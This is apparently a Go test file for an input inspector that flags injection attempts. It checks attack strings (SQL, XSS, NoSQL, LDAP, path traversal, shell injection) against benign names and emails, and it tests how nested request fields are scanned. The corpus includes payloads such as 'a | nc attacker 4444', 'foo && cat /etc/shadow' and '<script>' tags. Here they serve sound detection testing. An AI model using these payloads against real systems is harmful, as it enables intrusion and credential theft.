package security

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var attackCorpus = []string{
	"' OR 1=1 --",
	"admin'--",
	"1; DROP TABLE users",
	"<script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"javascript:alert(document.cookie)",
	"{$ne:null}",
	`{"$gt": ""}`,
	"../../etc/passwd",
	"..\\..\\windows\\win.ini",
	"x' or 'a'='a",
	"1 UNION SELECT username, password FROM users",
	"1/*!50000select*/",
	"1 AND SLEEP(5)",
	"'; WAITFOR DELAY '0:0:5'",
	"1 and 1=(select count(*) from information_schema.tables)",
	"CHAR(65)",
	"concat(0x41,0x42)",
	"%27%20OR%201%3D1",
	"%2e%2e/%2e%2e/secret",
	"$(whoami)",
	"`id`",
	"foo && cat /etc/shadow",
	"a | nc attacker 4444",
	"*)(uid=*))(|(uid=*",
	"admin)(&(password=*)",
	"SELECT * FROM attendees",
	"insert into attendees values (1)",
}

var benignCorpus = []string{
	"Lee",
	"O'Brien",
	"Smith-Jones",
	"D'Angelo",
	"van der Berg",
	"Anderson",
	"Orlando",
	"a@x.com",
	"john.doe+tag@example.co.uk",
	"taylor.orr@example.com",
	"key1",
	"Key4",
	"scanned",
	"not_scanned",
	"checked-in",
	"image",
	"target_found",
	"recA1b2C3d4",
	"3f9a0c1e5b7d2f4a6c8e0a1b3d5f7e9a",
	"Select Hotel",
	"Tom & Jerry",
}

func TestAttackCorpusIsMalicious(t *testing.T) {
	inspector := NewInspector()

	for _, value := range attackCorpus {
		t.Run(value, func(t *testing.T) {
			_, ok := inspector.Check(value)
			assert.True(t, ok, "expected %q to be classified malicious", value)
		})
	}
}

func TestBenignCorpusIsClean(t *testing.T) {
	inspector := NewInspector()

	for _, value := range benignCorpus {
		t.Run(value, func(t *testing.T) {
			r, ok := inspector.Check(value)
			assert.False(t, ok, "expected %q to be clean, matched rule %s", value, r.Name)
		})
	}
}

func TestDoubleHyphenSurnameIsRejected(t *testing.T) {
	r, ok := NewInspector().Check("Smith--Jones")

	require.True(t, ok)
	assert.Equal(t, CategorySQLDelimiter, r.Category)
}

func TestEachRuleMatchesItsSample(t *testing.T) {
	samples := map[string]string{
		"sql-statement":             "delete from attendees",
		"sql-comment-or-terminator": "x;",
		"quote-then-comment":        "admin' #",
		"script-tag":                "<SCRIPT src=//evil>",
		"javascript-uri":            "JavaScript:void(0)",
		"event-handler-attribute":   "x onload=go()",
		"embedded-element":          "<svg/onload=1>",
		"boolean-tautology":         "x or 1=1",
		"quoted-boolean":            "' or '",
		"union-select":              "union all select",
		"versioned-comment":         "/*!32302",
		"comment-padded-keyword":    "*/union",
		"sleep-function":            "pg_sleep(10)",
		"waitfor-delay":             "waitfor delay",
		"information-schema":        "information_schema.columns",
		"string-function":           "substring(version(),1,1)",
		"encoded-metacharacter":     "%3Cscript",
		"encoded-sequence":          "%2D%2D",
		"query-operator":            "$where",
		"command-substitution":      "${IFS}",
		"chained-command":           "; ls",
		"dot-dot-slash":             "../",
		"sensitive-path":            "/etc/passwd",
		"filter-break":              "*)(",
		"filter-open":               "(|(",
	}

	rules := DefaultRules()
	require.Len(t, samples, len(rules), "every rule needs a sample")

	for _, r := range rules {
		t.Run(r.Name, func(t *testing.T) {
			sample, ok := samples[r.Name]
			require.True(t, ok, "missing sample for rule %s", r.Name)
			assert.True(t, r.Matches(sample), "rule %s should match %q", r.Name, sample)
		})
	}
}

func TestRulesCoverEveryCategory(t *testing.T) {
	seen := make(map[Category]bool)
	for _, r := range DefaultRules() {
		seen[r.Category] = true
	}

	for _, c := range []Category{
		CategorySQLKeyword, CategorySQLDelimiter, CategoryXSS, CategoryTautology,
		CategoryUnion, CategoryInlineComment, CategoryTimeBased, CategorySchemaProbe,
		CategoryStringFunction, CategoryPercentEncoding, CategoryNoSQL, CategoryShell,
		CategoryPathTraversal, CategoryLDAP,
	} {
		assert.True(t, seen[c], "no rule for category %s", c)
	}
}

func TestInspectNestedFields(t *testing.T) {
	inspector := NewInspector()

	finding, ok := inspector.Inspect(map[string]any{
		"id": "abc",
		"fields": map[string]any{
			"email":    "a@x.com",
			"lastname": "' OR 1=1 --",
		},
	})

	require.True(t, ok)
	assert.Equal(t, "fields.lastname", finding.Field)
	assert.Equal(t, "' OR 1=1 --", finding.Value)
}

func TestInspectCleanRequest(t *testing.T) {
	inspector := NewInspector()

	_, ok := inspector.Inspect(map[string]any{
		"fields": map[string]any{
			"email":    "a@x.com",
			"lastname": "O'Brien",
		},
		"count": float64(3),
		"flag":  true,
	})

	assert.False(t, ok)
}

func TestInspectOnlyDescendsOneLevel(t *testing.T) {
	inspector := NewInspector()

	_, ok := inspector.Inspect(map[string]any{
		"fields": map[string]any{
			"fields": map[string]any{"deep": "<script>"},
		},
	})
	assert.False(t, ok)

	_, ok = inspector.Inspect(map[string]any{
		"data": map[string]any{"x": "<script>"},
	})
	assert.False(t, ok)
}

func TestInspectArraysAndKeys(t *testing.T) {
	inspector := NewInspector()

	finding, ok := inspector.Inspect(map[string]any{
		"tags": []any{"ok", float64(1), "../secret"},
	})
	require.True(t, ok)
	assert.Equal(t, "tags[2]", finding.Field)

	finding, ok = inspector.Inspect(map[string]any{
		"$where": "1",
	})
	require.True(t, ok)
	assert.Equal(t, CategoryNoSQL, finding.Rule.Category)
}

func TestInspectIsDeterministic(t *testing.T) {
	inspector := NewInspector()
	input := map[string]any{
		"b": "<script>",
		"a": "../x",
		"c": "$(id)",
	}

	for range 10 {
		finding, ok := inspector.Inspect(input)
		require.True(t, ok)
		assert.Equal(t, "a", finding.Field)
	}
}
